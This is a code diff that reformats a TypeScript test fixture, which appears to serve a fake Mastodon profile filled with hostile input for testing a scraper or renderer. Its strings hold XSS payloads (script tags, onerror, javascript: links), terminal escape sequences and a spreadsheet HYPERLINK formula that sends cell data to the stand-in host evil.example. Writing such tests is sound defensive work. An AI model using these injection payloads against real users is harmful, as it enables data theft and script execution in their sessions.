@@ -8,7 +8,8 @@
 import { account, snowflake, status } from '../../scripts/formats/mastodon.js';
 import { serveRoutes, type LocalServer } from './evidence-server.js';
 
-export const HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A1,"Click")\u001b]0;pwned\u0007<script>window.__pwned="name"</script>';
+export const HOSTILE_NAME =
+  '=HYPERLINK("http://evil.example/?"&A1,"Click")\u001b]0;pwned\u0007<script>window.__pwned="name"</script>';
 export const HOSTILE_REPLY =
   '<script>window.__pwned="reply"</script> <img src=x onerror="window.__pwned=1"> [click here](javascript:window.__pwned=2) ' +
   '<a href="javascript:window.__pwned=3">details</a> \u001b[2J\u001b[31mRED\u001b[0m \u001b]8;;http://evil.example\u0007link\u001b]8;;\u0007 | pipe ` tick *star*';
@@ -28,7 +29,21 @@ export async function serveHostileMastodon(): Promise<LocalServer & { profileUrl
   });
   const statuses = Array.from({ length: 5 }, (_, i) => {
     const createdAt = new Date(Date.parse('2026-10-30T12:00:00Z') - i * 86_400_000).toISOString();
-    return status({ id: snowflake(createdAt, i), createdAt, text: HOSTILE_REPLY, replyTo: { handle: `customer${i}`, host: 'example.social', accountId: `${900 + i}`, statusId: snowflake(createdAt, 100 + i) } }, owner, host);
+    return status(
+      {
+        id: snowflake(createdAt, i),
+        createdAt,
+        text: HOSTILE_REPLY,
+        replyTo: {
+          handle: `customer${i}`,
+          host: 'example.social',
+          accountId: `${900 + i}`,
+          statusId: snowflake(createdAt, 100 + i),
+        },
+      },
+      owner,
+      host,
+    );
   });
   const server = await serveRoutes({
     '/api/v1/accounts/lookup?acct=hostile': { type: 'application/json', body: JSON.stringify(owner) },
